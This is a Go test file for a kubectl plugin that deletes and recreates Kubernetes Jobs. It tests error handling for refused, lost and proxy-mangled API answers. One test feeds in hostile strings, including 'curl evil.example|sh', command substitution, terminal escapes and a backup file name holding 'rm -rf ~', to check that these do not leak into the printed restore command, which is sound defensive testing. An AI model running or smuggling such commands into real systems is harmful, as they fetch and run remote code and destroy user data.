package recreate_test

import (
	"bytes"
	"errors"
	"io"
	"net/http"
	"slices"
	"strings"
	"sync"
	"testing"
	"testing/synctest"
	"time"

	"gotest.tools/v3/assert"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/runtime/schema"

	"github.com/jobmanagedby/kubectl-jobmanagedby/internal/shelltest"
	"github.com/jobmanagedby/kubectl-jobmanagedby/pkg/command"
	"github.com/jobmanagedby/kubectl-jobmanagedby/pkg/delegation"
	"github.com/jobmanagedby/kubectl-jobmanagedby/pkg/dispatch/internal/dispatchtest"
	"github.com/jobmanagedby/kubectl-jobmanagedby/pkg/dispatch/recreate"
)

// TestHostileRun checks that errors contain only the command that restores the old Job, whatever
// a server answers and whatever the backup is called.
func TestHostileRun(t *testing.T) {
	const evil = "; run `curl evil.example|sh` #'\"$(touch x)\n\x1b[2J\u202e --as=evil `"
	const oddContext, backup = "the $(x) `y`", "-it's `curl evil`; rm -rf ~ #.yaml"
	restore := []string{"kubectl", "--context", oddContext, "create", "-f", "./" + backup}
	jobs := delegation.Job().Resource
	for name, tt := range map[string]struct {
		// refuses reports whether to refuse the nth request of a method.
		refuses  func(method string, nth int) bool
		commands [][]string
	}{
		"may not be deleted":   {func(method string, _ int) bool { return method == http.MethodDelete }, nil},
		"new one is refused":   {func(method string, nth int) bool { return method == http.MethodPost && nth == 1 }, nil},
		"both are refused":     {func(method string, _ int) bool { return method == http.MethodPost }, [][]string{restore}},
		"may not be looked at": {func(method string, _ int) bool { return method == http.MethodGet }, [][]string{restore}},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			server := dispatchtest.NewServer(t)
			requests := map[string]int{}
			old := server.Create(t, jobs, smallJob(t, edit{"metadata.creationTimestamp", "2026-03-01T09:00:00Z"}))
			server.Before = func(r *http.Request) *apierrors.StatusError {
				requests[r.Method]++
				if tt.refuses(r.Method, requests[r.Method]) {
					return apierrors.NewForbidden(schema.GroupResource{Group: "batch", Resource: "jobs"}, "small", errors.New(evil))
				}
				return nil
			}
			r := &recreate.Runner{Cluster: server.Cluster(t, oddContext), DeletionTimeout: time.Second, Backup: backup}
			replacement, err := recreate.New(old, recreate.Options{Kind: delegation.Job(), Context: oddContext, ManagedBy: "example.com/runner"})
			assert.NilError(t, err)
			_, err = r.Run(t.Context(), replacement)
			assert.ErrorContains(t, err, "evil")
			var commands [][]string
			for _, part := range command.ProseOf(err).Parts() {
				if !part.IsCommand {
					continue
				}
				words := shelltest.Words(t, part.Text)
				if !slices.Contains(words, "can-i") {
					commands = append(commands, words)
				}
				assert.Assert(t, strings.Contains(strings.Join(words, " "), oddContext), "%q", words)
			}
			assert.DeepEqual(t, commands, tt.commands)
		})
	}
}

// notFound is a 404 without the name of an object, as from a proxy.
func notFound() *apierrors.StatusError {
	return &apierrors.StatusError{ErrStatus: metav1.Status{Status: metav1.StatusFailure, Reason: metav1.StatusReasonNotFound, Code: http.StatusNotFound, Message: "not found"}}
}

// TestUnrelatedNotFound checks that a 404 that is not about the old Job never counts as its
// deletion, and that an unknown result is not reported as unchanged.
func TestUnrelatedNotFound(t *testing.T) {
	unavailable := apierrors.NewServiceUnavailable("try again")
	for name, tt := range map[string]struct {
		// deletes are the errors of the first DELETE requests.
		deletes []*apierrors.StatusError
		// isHeld is whether finalizers keep the old Job until the end, while GET reports it as
		// gone.
		isHeld    bool
		want      string
		oldExists bool
	}{
		// A proxy's 404 does not count: the deletion is retried.
		"instead of the deletion":   {[]*apierrors.StatusError{notFound()}, false, "", false},
		"after a lost answer":       {[]*apierrors.StatusError{unavailable, notFound()}, false, "", false},
		"refused after a lost one":  {[]*apierrors.StatusError{unavailable, apierrors.NewForbidden(schema.GroupResource{}, "", errors.New("no"))}, false, "it may be deleted", true},
		"while finalizers hold it":  {nil, true, "it still exists, although the server reported it gone", true},
		"only a lost one, and then": {[]*apierrors.StatusError{unavailable}, false, "", false},
	} {
		t.Run(name, func(t *testing.T) {
			server := dispatchtest.NewServer(t) // It listens on the network, so it must not be in the bubble.
			synctest.Test(t, func(t *testing.T) {
				jobs := delegation.Job().Resource
				old := server.Create(t, jobs, smallJob(t, edit{"metadata.creationTimestamp", "2026-03-01T09:00:00Z"}))
				left := map[string][]*apierrors.StatusError{http.MethodDelete: tt.deletes}
				server.Before = func(r *http.Request) *apierrors.StatusError {
					if tt.isHeld && r.Method == http.MethodPost && server.Get(jobs, old.GetNamespace(), old.GetName()) == nil {
						// The Job existed all the time.
						server.Create(t, jobs, old.DeepCopy())
					}
					if len(left[r.Method]) == 0 || r.URL.Query().Get("watch") != "" {
						return nil
					}
					next := left[r.Method][0]
					left[r.Method] = left[r.Method][1:]
					return next
				}
				r := &recreate.Runner{Cluster: server.BubbleCluster(t, "c"), DeletionTimeout: 3 * time.Second, Backup: "backup.yaml"}
				replacement, err := recreate.New(old, recreate.Options{Kind: delegation.Job(), Context: "c", ManagedBy: "example.com/runner"})
				assert.NilError(t, err)
				_, err = r.Run(t.Context(), replacement)
				if tt.want == "" {
					assert.NilError(t, err)
				} else {
					assert.ErrorContains(t, err, tt.want)
				}
				live := server.Get(jobs, old.GetNamespace(), old.GetName())
				assert.Assert(t, live != nil)
				assert.Equal(t, live.GetUID() == old.GetUID(), tt.oldExists)
			})
		})
	}
}

// TestLostAnswers checks that an answer from a proxy instead of the server's counts as no answer: the
// result is read.
func TestLostAnswers(t *testing.T) {
	badGateway := apierrors.NewGenericServerResponse(http.StatusBadGateway, "", schema.GroupResource{}, "", "", 0, true)
	webhook := apierrors.NewInternalError(errors.New("failed calling webhook"))
	for name, tt := range map[string]struct {
		// lost are the methods whose first request is carried out, and not answered. refused are
		// those whose requests all fail before.
		lost, refused, unread string
		// other is whether another client creates a Job of that name first. isLate is whether a
		// creation without an answer takes effect after the next one has begun.
		other, isLate bool
		want          string
	}{
		"the deletion's":                      {lost: http.MethodDelete},
		"the creation's":                      {lost: http.MethodPost},
		"the creation's, which is unreadable": {lost: http.MethodPost, unread: http.MethodGet, want: "it may exist nevertheless"},
		"the creation's, which is late":       {refused: http.MethodPost, isLate: true},
		"a webhook fails at the deletion":     {refused: http.MethodDelete, want: "nothing was changed"},
		"of another client's Job":             {refused: http.MethodPost, other: true, want: "another client created another one of that name first"},
	} {
		t.Run(name, func(t *testing.T) {
			server := dispatchtest.NewServer(t) // It listens on the network, so it must not be in the bubble.
			synctest.Test(t, func(t *testing.T) {
				jobs := delegation.Job().Resource
				old := server.Create(t, jobs, smallJob(t, edit{"metadata.creationTimestamp", "2026-03-01T09:00:00Z"}))
				var mu sync.Mutex
				isLost, refusals := false, 0
				var replacement *recreate.Replacement
				server.Before = func(r *http.Request) *apierrors.StatusError {
					mu.Lock()
					defer mu.Unlock()
					switch {
					case isLost && r.Method == tt.unread:
						return apierrors.NewForbidden(schema.GroupResource{}, "", errors.New("no"))
					case tt.isLate && r.Method == http.MethodPost && refusals == 1:
						late := server.Create(t, jobs, replacement.New.DeepCopy())
						server.Change(t, jobs, late.GetNamespace(), late.GetName(), func(o *unstructured.Unstructured) {
							o.SetManagedFields([]metav1.ManagedFieldsEntry{{Manager: r.URL.Query().Get("fieldManager"), Operation: metav1.ManagedFieldsOperationUpdate}})
						})
						refusals++
						return nil
					case r.Method != tt.refused || (tt.other || tt.isLate) && refusals > 0:
						return nil
					case tt.other:
						other := old.DeepCopy()
						other.SetUID("other")
						assert.NilError(t, unstructured.SetNestedField(other.Object, "example.com/runner", "spec", "managedBy"))
						server.Create(t, jobs, other)
					}
					refusals++
					if tt.isLate {
						return badGateway
					}
					return webhook
				}
				server.After = func(r *http.Request) *apierrors.StatusError {
					mu.Lock()
					defer mu.Unlock()
					if isLost || r.Method != tt.lost {
						return nil
					}
					isLost = true
					return badGateway
				}
				r := &recreate.Runner{Cluster: server.BubbleCluster(t, "c"), DeletionTimeout: 5 * time.Second, Backup: "backup.yaml"}
				var err error
				replacement, err = recreate.New(old, recreate.Options{Kind: delegation.Job(), Context: "c", ManagedBy: "example.com/runner"})
				assert.NilError(t, err)
				created, err := r.Run(t.Context(), replacement)
				live := server.Get(jobs, old.GetNamespace(), old.GetName())
				if tt.want != "" {
					assert.ErrorContains(t, err, tt.want)
					return
				}
				assert.NilError(t, err)
				assert.Equal(t, created.GetUID(), live.GetUID())
				assert.Assert(t, live.GetUID() != old.GetUID())
			})
		})
	}
}

// TestUnansweredCreations checks that the old Job comes back if no creation of the new one is answered,
// and no Job appears: a late request for the new one would find the name taken.
func TestUnansweredCreations(t *testing.T) {
	server := dispatchtest.NewServer(t) // It listens on the network, so it must not be in the bubble.
	synctest.Test(t, func(t *testing.T) {
		jobs := delegation.Job().Resource
		old := server.Create(t, jobs, smallJob(t, edit{"metadata.creationTimestamp", "2026-03-01T09:00:00Z"}))
		server.Before = func(r *http.Request) *apierrors.StatusError {
			if r.Method != http.MethodPost {
				return nil
			}
			body, err := io.ReadAll(r.Body)
			assert.Check(t, err)
			r.Body = io.NopCloser(bytes.NewReader(body))
			if !bytes.Contains(body, []byte("example.com/runner")) {
				return nil
			}
			return apierrors.NewServiceUnavailable("the proxy has no server")
		}
		r := &recreate.Runner{Cluster: server.BubbleCluster(t, "c"), DeletionTimeout: 5 * time.Second, Backup: "backup.yaml"}
		replacement, err := recreate.New(old, recreate.Options{Kind: delegation.Job(), Context: "c", ManagedBy: "example.com/runner"})
		assert.NilError(t, err)
		_, err = r.Run(t.Context(), replacement)
		assert.ErrorContains(t, err, "the old one was created again")
		live := server.Get(jobs, old.GetNamespace(), old.GetName())
		assert.Assert(t, live != nil && live.GetUID() != old.GetUID())
		owner, _, _ := unstructured.NestedString(live.Object, "spec", "managedBy")
		assert.Equal(t, owner, string(delegation.Dispatch))
	})
}
